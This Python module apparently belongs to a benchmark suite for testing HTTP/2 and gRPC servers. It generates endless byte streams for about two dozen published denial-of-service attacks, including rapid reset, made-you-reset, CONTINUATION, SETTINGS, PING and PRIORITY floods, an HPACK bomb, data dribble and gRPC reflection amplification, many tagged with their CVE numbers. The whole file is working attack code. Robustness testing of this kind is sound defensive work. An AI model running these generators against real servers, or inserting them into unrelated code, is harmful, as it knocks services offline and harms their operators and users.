"""The published attacks on HTTP/2 servers, each as the bytes of a connection that carries nothing else.

Every attack is a function of a serialized request; it yields parts of about 16 KiB without end. The caller bounds
bytes and time.
"""

from __future__ import annotations

import struct
from collections.abc import Callable, Iterator
from itertools import count

from hpack import Encoder

from benchmarks.malformed.http2 import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PATH,
    PING,
    PREFACE,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
)

Parts = Iterator[bytes]

PART_BYTES = 16_384
STREAMS = 250
"""Opened at a time: less than a server admits."""
INITIAL_WINDOW_SIZE = 4
UNKNOWN_TYPE = 0xB
CANCEL = struct.pack(">I", 8)
ONE = struct.pack(">I", 1)
HELLO = PREFACE + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


class Blocks:
    """Header blocks of one connection: short after the first, by the table."""

    def __init__(self) -> None:
        self._encoder = Encoder()

    def call(self, path: str = PATH, *more: tuple[str, str]) -> bytes:
        """The block of a call."""
        fields = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "x")]
        return self._encoder.encode([*fields, ("te", "trailers"), ("content-type", "application/grpc"), *more])


def _joined(frames: Iterator[bytes]) -> Parts:
    """Frames in parts of ``PART_BYTES`` or a little more."""
    part = bytearray()
    for one in frames:
        part += one
        if len(part) >= PART_BYTES:
            yield bytes(part)
            part.clear()


def _same(first: bytes, repeated: bytes) -> Parts:
    yield HELLO + first
    part = repeated * max(1, PART_BYTES // len(repeated))
    while True:
        yield part


def _numbered(make: Callable[[int], bytes]) -> Parts:
    """Frames of one new stream after the other."""
    yield HELLO
    yield from _joined(make(number) for number in range(1, 2**31, 2))


def _prefixed(message: bytes) -> bytes:
    return b"\0" + struct.pack(">I", len(message)) + message


def _open_calls(blocks: Blocks, streams: int = STREAMS) -> bytes:
    """Calls whose message does not come."""
    return b"".join(frame(HEADERS, END_HEADERS, 2 * number + 1, blocks.call()) for number in range(streams))


def rapid_reset(_: bytes) -> Parts:
    blocks = Blocks()
    return _numbered(
        lambda number: frame(HEADERS, END_HEADERS, number, blocks.call()) + frame(RST_STREAM, 0, number, CANCEL)
    )


def rapid_reset_of_whole_calls(message: bytes) -> Parts:
    blocks, body = Blocks(), _prefixed(message)

    def call(number: int) -> bytes:
        sent = frame(HEADERS, END_HEADERS, number, blocks.call()) + frame(DATA, END_STREAM, number, body)
        return sent + frame(RST_STREAM, 0, number, CANCEL)

    return _numbered(call)


def made_you_reset(_: bytes) -> Parts:
    """The client makes the server reset each stream by a window that grows by 0."""
    blocks = Blocks()
    return _numbered(
        lambda number: frame(HEADERS, END_HEADERS, number, blocks.call()) + frame(WINDOW_UPDATE, 0, number, bytes(4))
    )


def made_you_reset_by_priority(_: bytes) -> Parts:
    blocks = Blocks()
    return _numbered(
        lambda number: frame(HEADERS, END_HEADERS, number, blocks.call()) + frame(PRIORITY, 0, number, b"\0")
    )


def reset_flood(_: bytes) -> Parts:
    """Headers that are no request, each of which the server answers with a reset."""
    return _numbered(lambda number: frame(HEADERS, END_HEADERS | END_STREAM, number, b"\x83"))


def continuation_flood(_: bytes) -> Parts:
    field = b"\0\x01x\x01y"
    return _same(frame(HEADERS, 0, 1, Blocks().call()), frame(CONTINUATION, 0, 1, field * (16_000 // len(field))))


def empty_continuation_flood(_: bytes) -> Parts:
    return _same(frame(HEADERS, 0, 1, Blocks().call()), frame(CONTINUATION, 0, 1))


def settings_flood(_: bytes) -> Parts:
    return _same(b"", frame(SETTINGS, 0, 0))


def settings_of_many_windows(_: bytes) -> Parts:
    """One frame of many initial windows, with many open streams."""
    windows = struct.pack(">HIHI", INITIAL_WINDOW_SIZE, 65_536, INITIAL_WINDOW_SIZE, 65_535)
    return _same(_open_calls(Blocks()), frame(SETTINGS, 0, 0, windows * (16_380 // len(windows))))


def ping_flood(_: bytes) -> Parts:
    return _same(b"", frame(PING, 0, 0, bytes(8)))


def empty_headers(_: bytes) -> Parts:
    """Fields without a name and a value."""
    blocks = Blocks()
    return _numbered(lambda number: frame(HEADERS, END_HEADERS, number, blocks.call() + b"\0\0\0" * 5_000))


def empty_data_flood(_: bytes) -> Parts:
    return _same(frame(HEADERS, END_HEADERS, 1, Blocks().call()), frame(DATA, 0, 1))


def one_byte_data_flood(_: bytes) -> Parts:
    return _same(frame(HEADERS, END_HEADERS, 1, Blocks().call()), frame(DATA, 0, 1, b"\0"))


def priority_flood(_: bytes) -> Parts:
    """Streams whose priorities change all the time."""
    yield HELLO
    yield from _joined(
        frame(PRIORITY, 0, 2 * (number % 1000) + 1, struct.pack(">IB", 2 * ((number * 7 + 1) % 1000) + 3, 16))
        for number in count()
        if (number * 7 + 1) % 1000 + 1 != number % 1000
    )


def unknown_frames(_: bytes) -> Parts:
    return _same(b"", frame(UNKNOWN_TYPE, 0, 0))


def data_dribble(message: bytes) -> Parts:
    """Answers that the client's windows admit byte by byte."""
    blocks, body = Blocks(), _prefixed(message)
    window = frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 0))
    calls = b"".join(
        frame(HEADERS, END_HEADERS, 2 * number + 1, blocks.call()) + frame(DATA, END_STREAM, 2 * number + 1, body)
        for number in range(100)
    )
    yield HELLO + window + calls
    yield from _joined(frame(WINDOW_UPDATE, 0, 2 * (number % 100) + 1, ONE) for number in count())


def window_update_flood(_: bytes) -> Parts:
    """The connection's window grows by 1 again and again, with many open streams."""
    return _same(_open_calls(Blocks()), frame(WINDOW_UPDATE, 0, 0, ONE))


def hpack_bomb(_: bytes) -> Parts:
    """A field of 4 KiB in the table, and blocks of references to it."""
    blocks = Blocks()
    field = "x", "y" * 3_500
    yield HELLO + frame(HEADERS, END_HEADERS, 1, blocks.call(PATH, field))
    block = blocks.call() + b"\xbe" * 12_000
    yield from _joined(frame(HEADERS, END_HEADERS, number, block) for number in range(3, 2**31, 2))


def table_churn(_: bytes) -> Parts:
    """The table is emptied and filled in every block."""
    entries = b"".join(b"\x40\x04x%03d\x01y" % number for number in range(80))
    block = b"\x20\x3f\xe1\x1f" + Blocks().call() + entries
    return _numbered(lambda number: frame(HEADERS, END_HEADERS | END_STREAM, number, block))


def huffman(_: bytes) -> Parts:
    """Long texts in Huffman's code."""
    block = Blocks().call("/" + "a" * 25_000)
    return _numbered(lambda number: frame(HEADERS, END_HEADERS | END_STREAM, number, block))


def unread_answers(message: bytes) -> Parts:
    """Windows that admit everything, on a connection that is not read (CVE-2019-9517)."""
    blocks, body = Blocks(), _prefixed(message)
    windows = frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 2**31 - 1))
    yield HELLO + windows + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 1 - 65_535))
    yield from _joined(
        frame(HEADERS, END_HEADERS, number, blocks.call()) + frame(DATA, END_STREAM, number, body)
        for number in range(1, 2**31, 2)
    )


def refused_calls(_: bytes) -> Parts:
    """Calls of an unknown method, as short as they can be."""
    blocks = Blocks()
    return _numbered(lambda number: frame(HEADERS, END_HEADERS, number, blocks.call("/none")))


def reflection(_: bytes) -> Parts:
    """Questions that are much shorter than their answers, with windows that admit everything."""
    windows = frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 2**31 - 1))
    windows += frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 1 - 65_535))
    path = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
    symbol = b"inference.ModelInferRequest"
    question = _prefixed(b"\x22" + bytes([len(symbol)]) + symbol)
    first = windows + frame(HEADERS, END_HEADERS, 1, Blocks().call(path))
    return _same(first, frame(DATA, 0, 1, question * (16_000 // len(question))))


def large_heads(_: bytes) -> Parts:
    """Open calls with heads just below the limits, without messages."""
    blocks = Blocks()
    start = blocks.call()

    def call(number: int) -> bytes:
        fields = b"".join(b"\0\x03x%02d\x7f\x81\x02" % field + b"%03d" % field * 128 for field in range(40))
        block = (start if number == 1 else blocks.call()) + fields
        sent = frame(HEADERS, 0, number, block[:16_000])
        return sent + frame(CONTINUATION, END_HEADERS, number, block[16_000:])

    return _numbered(call)


def uploads_to_refused_calls(_: bytes) -> Parts:
    """Calls of an unknown method whose client goes on sending."""
    blocks = Blocks()

    def call(number: int) -> bytes:
        return frame(HEADERS, END_HEADERS, number, blocks.call("/none")) + frame(DATA, 0, number, bytes(1_000))

    return _numbered(call)


ATTACKS: dict[str, Callable[[bytes], Parts]] = {
    "rapid reset (CVE-2023-44487)": rapid_reset,
    "rapid reset of whole calls": rapid_reset_of_whole_calls,
    "made you reset (CVE-2025-8671)": made_you_reset,
    "made you reset, by PRIORITY": made_you_reset_by_priority,
    "reset flood (CVE-2019-9514)": reset_flood,
    "CONTINUATION flood (CVE-2024-27316)": continuation_flood,
    "CONTINUATION flood, empty frames": empty_continuation_flood,
    "SETTINGS flood (CVE-2019-9515)": settings_flood,
    "SETTINGS of many windows": settings_of_many_windows,
    "PING flood (CVE-2019-9512)": ping_flood,
    "headers without names (CVE-2019-9516)": empty_headers,
    "empty DATA flood (CVE-2019-9518)": empty_data_flood,
    "DATA of one byte": one_byte_data_flood,
    "PRIORITY flood (CVE-2019-9513)": priority_flood,
    "unknown frames": unknown_frames,
    "data dribble (CVE-2019-9511)": data_dribble,
    "WINDOW_UPDATE flood": window_update_flood,
    "HPACK bomb (CVE-2016-6581)": hpack_bomb,
    "HPACK table churn": table_churn,
    "HPACK Huffman texts": huffman,
    "uploads to refused calls": uploads_to_refused_calls,
    "large heads of open calls": large_heads,
    "calls of an unknown method": refused_calls,
    "reflection": reflection,
}
"""By name."""
UNREAD_ATTACKS: dict[str, Callable[[bytes], Parts]] = {
    "answers not read (CVE-2019-9517)": unread_answers,
    "PING flood, answers not read": ping_flood,
    "reflection, answers not read": reflection,
}
"""Attacks by clients that read nothing."""
